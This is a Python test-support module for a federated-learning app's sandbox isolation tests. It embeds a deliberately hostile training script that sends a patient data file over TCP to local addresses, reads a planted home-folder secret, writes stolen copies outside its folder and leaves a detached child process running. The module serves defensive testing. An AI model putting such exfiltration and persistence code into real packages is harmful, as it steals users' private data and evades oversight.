"""A hostile compute package and what it tries to reach, for the isolation tests.

Its ``train`` is a working numpy train step (so a round finishes) that first tries, each attempt
reported on stdout as ``ATTEMPT <name> succeeded|failed: <why>``, to:

- connect to a TCP server on 127.0.0.1 and send the data file;
- resolve ``localhost`` and connect to another local address of this computer (its LAN address);
- read a secret file planted in the person's home folder (by its absolute path and through ``~``);
- write a file next to the data folder, into the data folder and into the home folder;
- leave a child process running after the step ends (it retries the connection a few seconds
  later, and is found by a marker in its command line).

The targets are written into ``attack.json`` in the package, so every test gets its own.
"""

from __future__ import annotations

import contextlib
import json
import shutil
import socket
import tempfile
import threading
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import psutil
import pytest

from fedgui.core.execution.sandbox import detect_isolation
from tests.fednet.packages import FEDN_YAML, VALIDATE_PY, write_package_archive

HOSTILE_TRAIN_PY = r"""
import json
import os
import socket
import subprocess
import sys

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, "attack.json")) as handle:
    ATTACK = json.load(handle)


def attempt(name, action):
    try:
        action()
        print(f"ATTEMPT {name} succeeded", flush=True)
    except Exception as exc:
        print(f"ATTEMPT {name} failed: {type(exc).__name__}", flush=True)


def send(host, payload):
    with socket.create_connection((host, ATTACK["port"]), timeout=3) as conn:
        conn.sendall(payload)


def read(path):
    with open(path, "rb") as handle:
        text = handle.read()
    print(text.decode(errors="replace"), flush=True)  # the secret, if it were readable


def write(path, payload):
    with open(path, "wb") as handle:
        handle.write(payload)


def attacks():
    data_folder = os.environ.get("FEDN_DATA_PATH", ATTACK["data_folder"])
    with open(os.path.join(data_folder, "patients.csv"), "rb") as handle:
        payload = handle.read()
    print("ATTEMPT read_data succeeded", flush=True)  # reading its own data is allowed
    attempt("connect_loopback", lambda: send("127.0.0.1", payload))
    attempt("connect_localhost_name", lambda: send(socket.gethostbyname("localhost"), payload))
    if ATTACK.get("other_address"):
        attempt("connect_other_address", lambda: send(ATTACK["other_address"], payload))
    attempt("read_secret", lambda: read(ATTACK["secret"]))
    secret_name = os.path.basename(ATTACK["secret"])
    beside_data = os.path.join(os.path.dirname(data_folder), "stolen.csv")
    attempt("read_secret_via_home", lambda: read(os.path.expanduser("~/" + secret_name)))
    attempt("write_next_to_data", lambda: write(beside_data, payload))
    attempt("write_into_data", lambda: write(os.path.join(data_folder, "stolen.csv"), payload))
    attempt("write_home", lambda: write(os.path.join(ATTACK["home"], "stolen.csv"), payload))
    child = (
        "import socket, time\n"
        f"time.sleep(2)\n"
        "try:\n"
        f"    socket.create_connection(({ATTACK['other_address'] or '127.0.0.1'!r}, {ATTACK['port']}), 3)"
        ".sendall(b'child')\n"
        "except Exception:\n"
        "    pass\n"
        "time.sleep(60)\n"
        f"# {ATTACK['marker']}\n"
    )
    subprocess.Popen([sys.executable, "-c", child], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    print("ATTEMPT leave_child started", flush=True)


def main(in_path, out_path):
    attacks()
    with np.load(in_path) as data:
        arrays = [data[str(i)] for i in range(len(data.files))]
    with open(out_path, "wb") as handle:
        np.savez_compressed(handle, **{str(i): a + 0.1 for i, a in enumerate(arrays)})
    with open(out_path + "-metadata", "w") as handle:
        json.dump({"num_examples": 10, "batch_size": 1, "epochs": 1, "lr": 0.1}, handle)
    print("trained anyway", flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
"""

#: The attempts that must all fail under isolation.
ATTACKS = (
    "connect_loopback",
    "connect_localhost_name",
    "read_secret",
    "read_secret_via_home",
    "write_next_to_data",
    "write_into_data",
    "write_home",
)
SECRET_TEXT = "TOP-SECRET-patient-register-7f3a9"
DATA_TEXT = "id,diagnosis\n1,PRIVATE-ROW-c0ffee\n"


def other_local_address() -> str | None:
    """This computer's address on its LAN (not loopback), or None if it has none."""
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("10.254.254.254", 1))  # UDP connect sends nothing; it picks the route
        address = probe.getsockname()[0]
        if not address.startswith("127."):
            return address
    return None


@dataclass
class Listener:
    """A TCP server on all addresses that records every connection and every byte."""

    sock: socket.socket = field(default_factory=lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM))
    connections: int = 0
    received: bytearray = field(default_factory=bytearray)

    def __post_init__(self) -> None:
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("0.0.0.0", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    @property
    def port(self) -> int:
        return self.sock.getsockname()[1]

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            self.connections += 1
            with conn:
                conn.settimeout(2)
                with contextlib.suppress(OSError):
                    while chunk := conn.recv(65536):
                        self.received += chunk

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self.sock.close()


@dataclass
class HostileSetup:
    """The person's folders as the hostile package sees them, in a temporary folder."""

    root: Path
    listener: Listener
    marker: str

    @property
    def home(self) -> Path:
        return self.root / "home"

    @property
    def data(self) -> Path:
        return self.root / "site" / "data"

    @property
    def secret(self) -> Path:
        return self.home / "secret-notes.txt"

    def package_files(self, variant: str = "") -> dict[str, str]:
        attack = {
            "port": self.listener.port,
            "other_address": other_local_address(),
            "secret": str(self.secret),
            "home": str(self.home),
            "data_folder": str(self.data),
            "marker": self.marker,
            "variant": variant,  # a different variant is a different package version
        }
        return {
            "fedn.yaml": FEDN_YAML,
            "train.py": HOSTILE_TRAIN_PY,
            "validate.py": VALIDATE_PY,
            "attack.json": json.dumps(attack),
        }

    def write_package(self, dest: Path, variant: str = "") -> Path:
        return write_package_archive(dest, self.package_files(variant))

    def files_outside(self, *allowed: Path) -> list[Path]:
        """Every file under ``root`` that the test did not put there itself."""
        expected = {self.secret, self.data / "patients.csv"}
        found = []
        for path in self.root.rglob("*"):
            if path.is_file() and path not in expected and not any(path.is_relative_to(a) for a in allowed):
                found.append(path)
        return found


def make_hostile_setup(root: Path, marker: str) -> HostileSetup:
    setup = HostileSetup(root=root, listener=Listener(), marker=marker)
    setup.home.mkdir(parents=True)
    setup.data.mkdir(parents=True)
    setup.secret.write_text(SECRET_TEXT, encoding="utf-8")
    (setup.data / "patients.csv").write_text(DATA_TEXT, encoding="utf-8")
    return setup


@contextlib.contextmanager
def hostile_setup() -> Iterator[HostileSetup]:
    """A person's folders and a listener for one test; afterwards the listener is closed, what
    the package left running is killed and the folders are gone."""
    # Under /var/tmp, not pytest's /tmp: inside the sandbox /tmp is a private, writable tmpfs, so
    # folders that appear in it (the parents of a data folder kept in /tmp) take writes that
    # vanish with the step; a person's data folder is not in /tmp.
    marker = f"fedgui-hostile-child-{uuid.uuid4().hex}"
    root = Path(tempfile.mkdtemp(prefix="fedgui-hostile-", dir="/var/tmp"))
    setup = make_hostile_setup(root / "person", marker)
    try:
        yield setup
    finally:
        setup.listener.close()
        kill_leftovers(marker)
        shutil.rmtree(root, ignore_errors=True)


#: The hostile package's tests need the sandbox; without it they have nothing to prove.
needs_isolation = pytest.mark.skipif(
    not detect_isolation().available,
    reason="bubblewrap with user namespaces is needed (apt install bubblewrap)",
)


def leftover_children(marker: str) -> list[psutil.Process]:
    """Processes the hostile package left running (found by the marker in their command line)."""
    found = []
    for proc in psutil.process_iter(["cmdline"]):
        with contextlib.suppress(psutil.Error):
            if any(marker in part for part in proc.info["cmdline"] or []):
                found.append(proc)
    return found


def kill_leftovers(marker: str) -> None:
    for proc in leftover_children(marker):
        with contextlib.suppress(psutil.Error):
            proc.kill()


def attempt_results(output: str) -> dict[str, str]:
    """``{"connect_loopback": "failed: ConnectionRefusedError", ...}`` from the step's output."""
    results = {}
    for line in output.splitlines():
        if "ATTEMPT " in line:
            name, _, outcome = line.split("ATTEMPT ", 1)[1].partition(" ")
            results[name] = outcome
    return results
